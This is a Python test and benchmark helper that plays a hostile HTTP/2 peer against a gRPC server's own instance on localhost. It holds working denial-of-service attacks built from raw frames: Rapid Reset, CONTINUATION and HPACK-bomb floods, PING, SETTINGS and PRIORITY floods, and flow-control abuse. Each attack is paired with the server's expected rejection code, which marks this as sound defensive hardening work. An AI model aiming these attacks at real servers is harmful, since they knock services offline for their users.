"""A hostile HTTP/2 peer: raw frames over a trio socket, and the attacks of issue 13.

Shared by ``tests/test_grpc_hostile.py`` (against an in-process ``GrpcServer``) and
``benches/h2_abuse.py`` (against a real worker and a real multiplexer). Frames and
HPACK are built here by hand, independently of ``tei_manager.grpc``, because a
hostile peer sends what no well-behaved library would. Each attack returns an
``Outcome``: bytes sent, and how the server ended the connection.

The well-behaved side is a ``Prober``: back-to-back Tokenize calls on their own
connection, recording the longest time any one of them took beyond its pause.
"""

from __future__ import annotations

import errno
import socket as stdlib_socket
import struct
from collections.abc import AsyncIterator, Callable, Iterable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Any

import trio
from google.protobuf.message import Message

from tei_manager._proto.tei.v1 import tei_grpc, tei_pb2
from tei_manager._proto.tei_multiplexer.v1 import multiplexer_grpc, multiplexer_pb2
from tei_manager.grpc.channel import open_channel
from tei_manager.grpc.rpc import GrpcError, MethodSpec

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0x0, 0x1, 0x2, 0x3, 0x4
PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x5, 0x6, 0x7, 0x8, 0x9
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
NO_ERROR, PROTOCOL_ERROR, CANCEL, REFUSED_STREAM, ENHANCE_YOUR_CALM = 0x0, 0x1, 0x8, 0x7, 0xB
ERROR_NAMES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
}
TOKENIZE = "/tei.v1.Tokenize/Tokenize"
_HEAD = struct.Struct(">BHBBL")


# -- frames and HPACK, by hand ----------------------------------------------------------
def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    length = len(payload)
    return _HEAD.pack(length >> 16, length & 0xFFFF, kind, flags, stream_id) + payload


def settings_frame(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HL", k, v) for k, v in pairs))


def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 0x80:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name: str, value: str | bytes, *, indexed: bool = False) -> bytes:
    """A literal field with a literal name: without indexing, or (``indexed``) added to
    the peer's dynamic table."""
    raw = value if isinstance(value, bytes) else value.encode()
    first = b"\x40" if indexed else b"\x00"
    return first + hpack_int(len(name), 7) + name.encode() + hpack_int(len(raw), 7) + raw


#: ``:method POST`` and ``:scheme http`` from the static table.
STATIC_POST_HTTP = b"\x83\x86"


def request_block(path: str = TOKENIZE, *extra: bytes) -> bytes:
    """A gRPC request's header block, every field a literal without indexing."""
    return (
        STATIC_POST_HTTP
        + hpack_literal(":path", path)
        + hpack_literal("content-type", "application/grpc")
        + hpack_literal("te", "trailers")
        + b"".join(extra)
    )


def indexing_request_block(path: str = TOKENIZE) -> bytes:
    """A request that puts its path, content type and ``te`` in the dynamic table;
    after it, ``INDEXED_REQUEST`` is the same request in five bytes."""
    return (
        STATIC_POST_HTTP
        + hpack_literal(":path", path, indexed=True)
        + hpack_literal("content-type", "application/grpc", indexed=True)
        + hpack_literal("te", "trailers", indexed=True)
    )


#: The request of ``indexing_request_block`` once the table holds it (newest first).
INDEXED_REQUEST = STATIC_POST_HTTP + bytes((0x80 | 64, 0x80 | 63, 0x80 | 62))


def grpc_message(payload: bytes) -> bytes:
    return struct.pack(">BL", 0, len(payload)) + payload


TOKENIZE_REQUEST = grpc_message(tei_pb2.EncodeRequest(inputs="hello").SerializeToString())


@dataclass(frozen=True)
class Service:
    """The cheap call attacks and the well-behaved client make: a method and a request."""

    spec: MethodSpec[Any, Any]
    request: Message
    #: A request whose answer is large (tens of KB): a long text to tokenize.
    large_answer: Message

    @property
    def path(self) -> str:
        return self.spec.path

    @property
    def message(self) -> bytes:
        """The request as a length-prefixed gRPC message."""
        return grpc_message(self.request.SerializeToString())


#: Text whose tokens make a large Tokenize answer (tens of KB from 8 KB).
LONG_TEXT = "a " * 4000
#: A worker's Tokenize.
WORKER = Service(
    tei_grpc.Tokenize.Tokenize,
    tei_pb2.EncodeRequest(inputs="hello"),
    tei_pb2.EncodeRequest(inputs=LONG_TEXT),
)


def multiplexer_service(instance: str) -> Service:
    """The multiplexer's Tokenize, routed to ``instance``."""
    target = multiplexer_pb2.Target(instance_name=instance)
    return Service(
        multiplexer_grpc.TeiMultiplexer.Tokenize,
        multiplexer_pb2.EncodeRequest(target=target, request=tei_pb2.EncodeRequest(inputs="hello")),
        multiplexer_pb2.EncodeRequest(
            target=target, request=tei_pb2.EncodeRequest(inputs=LONG_TEXT)
        ),
    )


def opening(*pairs: tuple[int, int]) -> bytes:
    """The client preface, our SETTINGS, and an ACK of the server's."""
    return PREFACE + settings_frame(*pairs) + frame(SETTINGS, ACK, 0)


# -- the attacker's connection ----------------------------------------------------------
@dataclass
class Outcome:
    """What an attack did and how the server answered it."""

    name: str
    bytes_sent: int = 0
    #: "goaway CODE", "reset", "closed" (EOF without GOAWAY), "not reading" (the server
    #: stopped reading from us) or "open".
    ended: str = "open"
    goaway_code: int | None = None
    resets: dict[str, int] = field(default_factory=dict)
    max_concurrent_streams: int | None = None
    notes: dict[str, object] = field(default_factory=dict)

    @property
    def cut_off(self) -> bool:
        return self.ended != "open"


class Attacker:
    """One raw TCP connection to the server, its inbound frames parsed as they come.

    ``read=False`` never reads the socket until ``drain`` (a peer that does not read);
    ``receive_buffer`` shrinks SO_RCVBUF so that the server's output backs up quickly.
    """

    def __init__(self, outcome: Outcome, sock: trio.socket.SocketType) -> None:
        self.outcome = outcome
        self.sock = sock
        self.closed = trio.Event()  # the server ended the connection (GOAWAY, EOF, reset)
        self.goaway = trio.Event()
        self.send_window = 65535
        self.stream_initial_window = 65535
        self.stream_windows: dict[int, int] = {}
        self.window_changed = trio.Event()
        self.headers_received: list[tuple[int, bytes]] = []
        self.got_headers = trio.Event()
        self._buffer = bytearray()

    @classmethod
    @asynccontextmanager
    async def connect(
        cls, port: int, name: str, *, read: bool = True, receive_buffer: int | None = None
    ) -> AsyncIterator[Attacker]:
        sock = trio.socket.socket()
        if receive_buffer is not None:
            sock.setsockopt(stdlib_socket.SOL_SOCKET, stdlib_socket.SO_RCVBUF, receive_buffer)
        await sock.connect(("127.0.0.1", port))
        attacker = cls(Outcome(name), sock)
        try:
            async with trio.open_nursery() as nursery:
                if read:
                    nursery.start_soon(attacker._read)
                yield attacker
                nursery.cancel_scope.cancel()
        finally:
            sock.close()

    async def send(self, data: bytes, *, stall: float = 0.5) -> bool:
        """Send all of ``data``; False once the server ended the connection or stopped
        reading from us for ``stall`` seconds."""
        view = memoryview(data)
        while view:
            if self.closed.is_set():
                return False
            with trio.move_on_after(stall):
                try:
                    sent = await self.sock.send(view)
                except OSError as error:
                    self._end("reset" if error.errno == errno.ECONNRESET else "closed")
                    return False
                self.outcome.bytes_sent += sent
                view = view[sent:]
                continue
            self._end("not reading")
            return False
        return True

    async def send_all(self, chunks: Iterable[bytes], *, stall: float = 0.5) -> bool:
        for chunk in chunks:
            if not await self.send(chunk, stall=stall):
                return False
            await trio.lowlevel.checkpoint()
        return True

    async def drain(self, within: float) -> None:
        """Read (a peer that did not read) until the server ends the connection."""
        with trio.move_on_after(within):
            await self._read()

    async def wait_closed(self, within: float) -> bool:
        with trio.move_on_after(within):
            await self.closed.wait()
        return self.closed.is_set()

    def _end(self, how: str) -> None:
        if self.outcome.ended in ("open", "not reading"):
            self.outcome.ended = how
        self.closed.set()

    async def _read(self) -> None:
        while True:
            try:
                data = await self.sock.recv(256 * 1024)
            except OSError as error:
                self._end("reset" if error.errno == errno.ECONNRESET else "closed")
                return
            if not data:
                self._end("closed")
                return
            self._buffer += data
            self._parse()

    def _parse(self) -> None:
        buffer = self._buffer
        pos = 0
        while len(buffer) - pos >= 9:
            high, low, kind, flags, stream_id = _HEAD.unpack_from(buffer, pos)
            length = high << 16 | low
            if len(buffer) - pos - 9 < length:
                break
            payload = bytes(buffer[pos + 9 : pos + 9 + length])
            pos += 9 + length
            self._frame(kind, flags, stream_id & 0x7FFFFFFF, payload)
        del buffer[:pos]

    def _frame(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        outcome = self.outcome
        if kind == GOAWAY and len(payload) >= 8:
            code = struct.unpack_from(">L", payload, 4)[0]
            outcome.goaway_code = code
            outcome.ended = f"goaway {ERROR_NAMES.get(code, hex(code))}"
            self.goaway.set()
            self.closed.set()
        elif kind == RST_STREAM and len(payload) == 4:
            name = ERROR_NAMES.get(struct.unpack(">L", payload)[0], "other")
            outcome.resets[name] = outcome.resets.get(name, 0) + 1
            self.stream_windows.pop(stream_id, None)
        elif kind == SETTINGS and not flags & ACK:
            for offset in range(0, len(payload) - 5, 6):
                key, value = struct.unpack_from(">HL", payload, offset)
                if key == SETTINGS_MAX_CONCURRENT_STREAMS:
                    outcome.max_concurrent_streams = value
                elif key == SETTINGS_INITIAL_WINDOW_SIZE:
                    delta = value - self.stream_initial_window
                    self.stream_initial_window = value
                    for sid in self.stream_windows:
                        self.stream_windows[sid] += delta
                    self._window_changed()
        elif kind == WINDOW_UPDATE and len(payload) == 4:
            increment = struct.unpack(">L", payload)[0] & 0x7FFFFFFF
            if stream_id == 0:
                self.send_window += increment
            elif stream_id in self.stream_windows:
                self.stream_windows[stream_id] += increment
            self._window_changed()
        elif kind == HEADERS and len(self.headers_received) < 64:
            self.headers_received.append((stream_id, payload))
            self.got_headers.set()

    def _window_changed(self) -> None:
        self.window_changed.set()
        self.window_changed = trio.Event()

    def open_stream(self, stream_id: int) -> None:
        """Track the send window of a stream we opened."""
        self.stream_windows[stream_id] = self.stream_initial_window

    async def send_data_within_windows(
        self, stream_ids: list[int], total: int, per_stream: int, *, patience: float = 0.3
    ) -> int:
        """DATA on ``stream_ids`` in turn, as much as the server's windows allow, up to
        ``total`` bytes and ``per_stream`` on each stream; stops once the windows stay
        shut for ``patience`` seconds."""
        chunk = bytes(16384)
        sent = 0
        on_stream = dict.fromkeys(stream_ids, 0)
        while sent < total and not self.closed.is_set():
            progressed = False
            for sid in stream_ids:
                room = min(self.send_window, self.stream_windows.get(sid, 0), total - sent)
                room = min(room, len(chunk), per_stream - on_stream[sid])
                if room <= 0:
                    continue
                self.send_window -= room
                self.stream_windows[sid] -= room
                if not await self.send(frame(DATA, 0, sid, chunk[:room])):
                    return sent
                sent += room
                on_stream[sid] += room
                progressed = True
            if not progressed:
                with trio.move_on_after(patience):
                    await self.window_changed.wait()
                    continue
                break
        return sent


# -- the well-behaved client ------------------------------------------------------------
class Prober:
    """Tokenize calls one after another on their own connection, while an attack runs."""

    def __init__(self, service: Service = WORKER) -> None:
        self.service = service
        self.calls = 0
        self.failures = 0
        self.max_stall = 0.0
        self.answered = trio.Event()  # replaced after each call

    async def run(
        self,
        port: int,
        *,
        pause: float = 0.005,
        call_limit: float = 10.0,
        task_status: trio.TaskStatus[None] = trio.TASK_STATUS_IGNORED,
    ) -> None:
        """Call until cancelled. A server that cannot be reached (or dies) counts as
        failed calls, and ends the probing."""
        spec, request = self.service.spec, self.service.request
        started = False
        try:
            async with open_channel("127.0.0.1", port) as channel:
                await channel.unary_unary(spec, request)  # connected
                task_status.started()
                started = True
                while True:
                    began = trio.current_time()
                    await trio.sleep(pause)
                    try:
                        with trio.fail_after(call_limit):
                            await channel.unary_unary(spec, request)
                    except (GrpcError, trio.TooSlowError):
                        self.failures += 1
                    self.calls += 1
                    self.answered.set()
                    self.answered = trio.Event()
                    self.max_stall = max(self.max_stall, trio.current_time() - began - pause)
        except (GrpcError, OSError):
            self.failures += 1
        finally:
            self.answered.set()
            if not started:
                task_status.started()


@asynccontextmanager
async def probing(port: int, service: Service = WORKER) -> AsyncIterator[Prober]:
    prober = Prober(service)
    async with trio.open_nursery() as nursery:
        await nursery.start(prober.run, port)
        yield prober
        # One more call after the attack: the server still answers.
        with trio.move_on_after(10):
            await prober.answered.wait()
        nursery.cancel_scope.cancel()


async def batches(build: Callable[[int], bytes], first: int, count: int, size: int) -> list[bytes]:
    """``build(i)`` for i in [first, count), joined ``size`` at a time. Attacks build
    their bytes before they connect, so that sending them costs this process little,
    and yield between batches, so that building does not stall the well-behaved
    client that shares this process."""
    chunks = []
    for start in range(first, count, size):
        chunks.append(b"".join(build(i) for i in range(start, min(count, start + size))))
        await trio.lowlevel.checkpoint()
    return chunks


# -- the attacks ------------------------------------------------------------------------
# Each takes the server's port and a scale, opens its own connection(s), and returns
# its Outcome. ``scale`` multiplies the work (1.0: the figures of issue 13).


async def continuation_flood(
    port: int, scale: float = 1.0, *, service: Service = WORKER
) -> Outcome:
    """~90 KB of empty CONTINUATION frames after a HEADERS without END_HEADERS."""
    count = int(10_000 * scale)
    async with Attacker.connect(port, "empty CONTINUATION flood") as attacker:
        start = opening() + frame(HEADERS, 0, 1, request_block(service.path))
        # All at once: the server gets the whole chain in one read.
        await attacker.send(start + frame(CONTINUATION, 0, 1) * count)
        await attacker.wait_closed(2.0)
        return attacker.outcome


async def hpack_cache_fill(
    port: int, scale: float = 1.0, *, service: Service = WORKER, size: int = 4000
) -> Outcome:
    """Distinct large header blocks (literals never indexed): what the decoder's caches
    keep of them."""
    count = int(2000 * scale)
    async with Attacker.connect(port, "distinct large header blocks") as attacker:
        await attacker.send(opening())
        batch = 50
        for first in range(0, count, batch):
            frames = []
            for i in range(first, min(count, first + batch)):
                value = f"{i:08d}".encode() * (size // 8)
                block = request_block(service.path, hpack_literal("x-pad", value))
                frames.append(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block))
            if not await attacker.send(b"".join(frames)):
                break
            await trio.sleep(0.002)  # let the server answer the batch
        await attacker.wait_closed(0.2)
        return attacker.outcome


async def window_parking(
    port: int,
    scale: float = 1.0,
    *,
    service: Service = WORKER,
    streams: int = 16,
    message_bytes: int = 40 * 2**20 - 1,
) -> Outcome:
    """Streams whose request message (``message_bytes``: the largest the server allows)
    never completes: as much data as the server's windows take, parked unread."""
    total = int(64 * 2**20 * scale)
    async with Attacker.connect(port, "unread data parked in windows") as attacker:
        ids = [2 * i + 1 for i in range(streams)]
        start = opening()
        for sid in ids:
            # A large message is announced; its bytes come as far as the windows allow.
            start += frame(HEADERS, END_HEADERS, sid, request_block(service.path))
            start += frame(DATA, 0, sid, struct.pack(">BL", 0, message_bytes))
        await attacker.send(start)
        for sid in ids:
            attacker.open_stream(sid)
            attacker.stream_windows[sid] -= 5
            attacker.send_window -= 5
        await trio.sleep(0.05)  # the server's SETTINGS and window updates
        # Each message stays one byte short of complete.
        accepted = await attacker.send_data_within_windows(ids, total, message_bytes - 1)
        attacker.outcome.notes["data_accepted_mib"] = round(accepted / 2**20, 2)
        await attacker.wait_closed(0.2)
        return attacker.outcome


async def rapid_reset(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
    """HEADERS + DATA + RST_STREAM (CVE-2023-44487), 20k times on one connection."""
    count = int(20_000 * scale)
    message = service.message
    cancel = b"\0\0\0\x08"
    first = frame(HEADERS, END_HEADERS, 1, indexing_request_block(service.path))
    first += frame(DATA, 0, 1, message) + frame(RST_STREAM, 0, 1, cancel)
    chunks = await batches(
        lambda i: (
            frame(HEADERS, END_HEADERS, 2 * i + 1, INDEXED_REQUEST)
            + frame(DATA, 0, 2 * i + 1, message)
            + frame(RST_STREAM, 0, 2 * i + 1, cancel)
        ),
        1,
        count,
        500,
    )
    async with Attacker.connect(port, "Rapid Reset") as attacker:
        await attacker.send(opening() + first)
        await attacker.send_all(chunks)
        await attacker.wait_closed(1.0)
        return attacker.outcome


async def unknown_method_echo(
    port: int, scale: float = 1.0, *, service: Service = WORKER, path_length: int = 3000
) -> Outcome:
    """A peer that never reads asks, many times, for an unknown method whose long path
    sits in the HPACK table: each tiny request would be answered with the path."""
    count = int(20_000 * scale)
    path = "/x.Y/" + "z" * path_length
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, indexing_request_block(path))
    chunks = await batches(
        lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, INDEXED_REQUEST),
        1,
        count,
        1000,
    )
    async with Attacker.connect(
        port, "unknown long method, never read", read=False, receive_buffer=4096
    ) as attacker:
        await attacker.send(opening() + first)
        await attacker.send_all(chunks)
        attacker.outcome.notes["server_stopped_reading"] = attacker.outcome.ended == "not reading"
        await attacker.drain(2.0)
        return attacker.outcome


async def unread_answers(
    port: int, scale: float = 1.0, *, service: Service = WORKER, at_once: int = 16
) -> Outcome:
    """A peer that grants the largest windows, asks for large answers, ``at_once`` at a
    time, and never reads them: what the server queues for it."""
    count = int(600 * scale)
    request = grpc_message(service.large_answer.SerializeToString())
    first = frame(HEADERS, END_HEADERS, 1, indexing_request_block(service.path))
    first += frame(DATA, END_STREAM, 1, request)

    def group(start: int) -> bytes:  # built as sent: this process holds little
        return b"".join(
            frame(HEADERS, END_HEADERS, 2 * i + 1, INDEXED_REQUEST)
            + frame(DATA, END_STREAM, 2 * i + 1, request)
            for i in range(start, min(count, start + at_once))
        )

    start = opening((SETTINGS_INITIAL_WINDOW_SIZE, 2**31 - 1))
    start += frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 2**31 - 1 - 65535))
    async with Attacker.connect(
        port, "large answers, never read", read=False, receive_buffer=4096
    ) as attacker:
        await attacker.send(start + first)
        for at in range(1, count, at_once):
            if not await attacker.send(group(at)):
                break
            await trio.sleep(0.005)  # let the server answer: no stream is refused
        attacker.outcome.notes["server_stopped_reading"] = attacker.outcome.ended == "not reading"
        await attacker.drain(2.0)
        return attacker.outcome


async def longest_grpc_message(port: int, path_length: int = 6000) -> int:
    """The length of the grpc-message header of the answer to an unknown long path
    (its HPACK literal's length prefix, enough to see an echo)."""
    path = "/x.Y/" + "z" * path_length
    async with Attacker.connect(port, "long path") as attacker:
        await attacker.send(
            opening() + frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(path))
        )
        with trio.move_on_after(5):
            await attacker.got_headers.wait()
        if not attacker.headers_received:
            return 0
        return max(len(block) for _, block in attacker.headers_received)


async def ping_flood(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
    """PING frames from a peer that never reads their ACKs."""
    count = int(200_000 * scale)
    async with Attacker.connect(
        port, "PING flood, never read", read=False, receive_buffer=4096
    ) as attacker:
        await attacker.send(opening())
        pings = frame(PING, 0, 0, b"12345678") * 1000
        await attacker.send_all([pings] * (count // 1000))
        attacker.outcome.notes["server_stopped_reading"] = attacker.outcome.ended == "not reading"
        await attacker.drain(2.0)
        return attacker.outcome


async def stream_flood(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
    """20k concurrent streams opened by HEADERS alone (each handler waits for its
    request message)."""
    count = int(20_000 * scale)
    first = frame(HEADERS, END_HEADERS, 1, indexing_request_block(service.path))
    chunks = await batches(
        lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, INDEXED_REQUEST), 1, count, 1000
    )
    async with Attacker.connect(port, "20k concurrent streams") as attacker:
        await attacker.send(opening() + first)
        await attacker.send_all(chunks)
        await attacker.wait_closed(0.3)
        refused = attacker.outcome.resets.get("REFUSED_STREAM", 0)
        attacker.outcome.notes["streams_refused"] = refused
        attacker.outcome.notes["streams_sent"] = count
        return attacker.outcome


async def backwards_stream_id(
    port: int, scale: float = 1.0, *, service: Service = WORKER
) -> Outcome:
    """A stream id lower than one already opened, never used before (RFC 9113 §5.1.1)."""
    async with Attacker.connect(port, "stream id going backwards") as attacker:
        await attacker.send(
            opening()
            + frame(HEADERS, END_HEADERS, 5, request_block(service.path))
            + frame(HEADERS, END_HEADERS, 3, request_block(service.path))
        )
        await attacker.wait_closed(1.0)
        return attacker.outcome


async def empty_data_flood(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
    """Empty DATA frames on an open stream (CVE-2019-9518)."""
    count = int(100_000 * scale)
    async with Attacker.connect(port, "empty DATA flood") as attacker:
        await attacker.send(opening() + frame(HEADERS, END_HEADERS, 1, request_block(service.path)))
        empties = frame(DATA, 0, 1) * 1000
        await attacker.send_all([empties] * (count // 1000))
        await attacker.wait_closed(1.0)
        return attacker.outcome


async def empty_headers_flood(
    port: int, scale: float = 1.0, *, service: Service = WORKER
) -> Outcome:
    """HEADERS frames with an empty header block, each on a new stream."""
    count = int(20_000 * scale)
    chunks = await batches(lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1), 0, count, 1000)
    async with Attacker.connect(port, "empty HEADERS flood") as attacker:
        await attacker.send(opening())
        await attacker.send_all(chunks)
        await attacker.wait_closed(1.0)
        return attacker.outcome


async def settings_flood(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
    """SETTINGS frames (each owed an ACK) from a peer that never reads."""
    count = int(100_000 * scale)
    async with Attacker.connect(
        port, "SETTINGS flood, never read", read=False, receive_buffer=4096
    ) as attacker:
        await attacker.send(opening())
        floods = settings_frame((SETTINGS_INITIAL_WINDOW_SIZE, 65535)) * 1000
        await attacker.send_all([floods] * (count // 1000))
        attacker.outcome.notes["server_stopped_reading"] = attacker.outcome.ended == "not reading"
        await attacker.drain(2.0)
        return attacker.outcome


async def priority_flood(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
    """PRIORITY frames, each for a new idle stream depending on the one before (the
    priority tree of CVE-2019-9513): work for the server, nothing for the peer."""
    count = int(100_000 * scale)
    chunks = await batches(
        lambda i: frame(PRIORITY, 0, 2 * i + 1, struct.pack(">LB", max(0, 2 * i - 1), 15)),
        0,
        count,
        1000,
    )
    async with Attacker.connect(port, "PRIORITY flood") as attacker:
        await attacker.send(opening())
        await attacker.send_all(chunks)
        await attacker.wait_closed(1.0)
        return attacker.outcome


async def window_update_flood(
    port: int, scale: float = 1.0, *, service: Service = WORKER
) -> Outcome:
    """1-byte WINDOW_UPDATEs on an open stream and the connection, with no DATA that
    could have called for them (CVE-2019-9517 style: each wakes the server's senders)."""
    count = int(100_000 * scale)
    updates = (
        frame(WINDOW_UPDATE, 0, 1, struct.pack(">L", 1))
        + frame(WINDOW_UPDATE, 0, 0, struct.pack(">L", 1))
    ) * 500
    async with Attacker.connect(port, "WINDOW_UPDATE flood") as attacker:
        # A call whose request never comes: its stream stays open.
        await attacker.send(opening() + frame(HEADERS, END_HEADERS, 1, request_block(service.path)))
        await attacker.send_all([updates] * (count // 1000))
        await attacker.wait_closed(1.0)
        return attacker.outcome


async def malformed_request_flood(
    port: int, scale: float = 1.0, *, service: Service = WORKER
) -> Outcome:
    """Requests whose pseudo-header comes after a regular field (RFC 9113 §8.3), each
    on a new stream: each costs the server a decode and a reset, and does nothing."""
    count = int(20_000 * scale)
    block = (
        hpack_literal("content-type", "application/grpc")
        + STATIC_POST_HTTP
        + hpack_literal(":path", service.path)
    )
    chunks = await batches(
        lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block), 0, count, 1000
    )
    async with Attacker.connect(port, "malformed request flood") as attacker:
        await attacker.send(opening())
        await attacker.send_all(chunks)
        await attacker.wait_closed(1.0)
        attacker.outcome.notes["streams_reset"] = attacker.outcome.resets.get("PROTOCOL_ERROR", 0)
        return attacker.outcome


IDLE_KINDS: dict[str, bytes] = {
    "no preface": b"",
    "half a preface": PREFACE[:12],
    "preface, then nothing": PREFACE + settings_frame(),
}


async def idle_connections(port: int, count: int, wait: float) -> Outcome:
    """``count`` connections of each ``IDLE_KINDS``, left idle for ``wait`` seconds: how
    many the server closed."""
    outcome = Outcome("idle connections")
    closed: dict[str, int] = dict.fromkeys(IDLE_KINDS, 0)
    async with trio.open_nursery() as nursery:

        async def one(kind: str, opening_bytes: bytes) -> None:
            async with Attacker.connect(port, kind) as attacker:
                if opening_bytes:
                    await attacker.send(opening_bytes)
                outcome.bytes_sent += attacker.outcome.bytes_sent
                if await attacker.wait_closed(wait):
                    closed[kind] += 1

        for kind, opening_bytes in IDLE_KINDS.items():
            for _ in range(count):
                nursery.start_soon(one, kind, opening_bytes)
    outcome.notes["closed"] = closed
    every = all(value == count for value in closed.values())
    outcome.ended = "all closed" if every else f"closed {sum(closed.values())}/{3 * count}"
    return outcome


@dataclass
class Attack:
    name: str
    run: Callable[..., object]
    #: The GOAWAY code a guarded server answers with (None: it may keep the connection).
    goaway: int | None


ATTACKS = [
    Attack("continuation_flood", continuation_flood, ENHANCE_YOUR_CALM),
    Attack("hpack_cache_fill", hpack_cache_fill, None),
    Attack("window_parking", window_parking, None),
    Attack("rapid_reset", rapid_reset, ENHANCE_YOUR_CALM),
    Attack("unknown_method_echo", unknown_method_echo, None),
    Attack("unread_answers", unread_answers, None),
    Attack("ping_flood", ping_flood, ENHANCE_YOUR_CALM),
    Attack("stream_flood", stream_flood, None),
    Attack("backwards_stream_id", backwards_stream_id, PROTOCOL_ERROR),
    Attack("empty_data_flood", empty_data_flood, ENHANCE_YOUR_CALM),
    Attack("empty_headers_flood", empty_headers_flood, None),
    Attack("settings_flood", settings_flood, ENHANCE_YOUR_CALM),
    Attack("priority_flood", priority_flood, ENHANCE_YOUR_CALM),
    Attack("window_update_flood", window_update_flood, ENHANCE_YOUR_CALM),
    Attack("malformed_request_flood", malformed_request_flood, ENHANCE_YOUR_CALM),
]

__all__ = ["ATTACKS", "Attack", "Attacker", "Outcome", "Prober", "probing"]


async def empty_header_name(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
    """A request with a header whose name is empty (RFC 9113 §8.2: malformed)."""
    async with Attacker.connect(port, "empty header name") as attacker:
        block = request_block(service.path, hpack_literal("", "x"))
        await attacker.send(opening() + frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        await attacker.wait_closed(0.5)
        return attacker.outcome


ATTACKS.append(Attack("empty_header_name", empty_header_name, None))


async def many_connections(port: int, count: int, hold: float) -> Outcome:
    """``count`` connections at once, each a full preface and SETTINGS, held ``hold``
    seconds: how many the server served (its SETTINGS arrived) and how many it closed."""
    outcome = Outcome("more connections than the limit")
    served = closed = 0
    async with trio.open_nursery() as nursery:

        async def one() -> None:
            nonlocal served, closed
            async with Attacker.connect(port, "one of many") as attacker:
                await attacker.send(opening())
                outcome.bytes_sent += attacker.outcome.bytes_sent
                if await attacker.wait_closed(hold):
                    closed += 1
                elif attacker.outcome.max_concurrent_streams is not None:
                    served += 1

        for _ in range(count):
            nursery.start_soon(one)
    outcome.notes.update(served=served, closed=closed)
    outcome.ended = f"{closed} of {count} closed"
    return outcome


async def hpack_bomb(port: int, scale: float = 1.0, *, service: Service = WORKER) -> Outcome:
    """A 4 KB header put in the peer's table once, then referenced by one-byte indexes:
    a 16 KB header block that would decode to 64 MB."""
    count = int(16_000 * scale)
    async with Attacker.connect(port, "HPACK bomb") as attacker:
        block = indexing_request_block(service.path) + hpack_literal(
            "x-bomb", "b" * 3900, indexed=True
        )
        # The 4 KB entry is the newest in the table (index 62), referenced ``count`` times.
        bomb = bytes((0x80 | 62,)) * count
        await attacker.send(
            opening()
            + frame(HEADERS, END_HEADERS | END_STREAM, 1, block)
            + frame(HEADERS, END_HEADERS | END_STREAM, 3, request_block(service.path) + bomb)
        )
        await attacker.wait_closed(1.0)
        return attacker.outcome


ATTACKS.append(Attack("hpack_bomb", hpack_bomb, None))


async def pinging_idle_connection(port: int, every: float, during: float) -> Outcome:
    """A connection that opens no stream and sends a PING every ``every`` seconds for
    ``during`` seconds: is it closed anyway?"""
    async with Attacker.connect(port, "idle, kept alive by PINGs") as attacker:
        await attacker.send(opening())
        with trio.move_on_after(during):
            while await attacker.send(frame(PING, 0, 0, b"stillhere"[:8])):
                with trio.move_on_after(every):
                    await attacker.closed.wait()
        return attacker.outcome
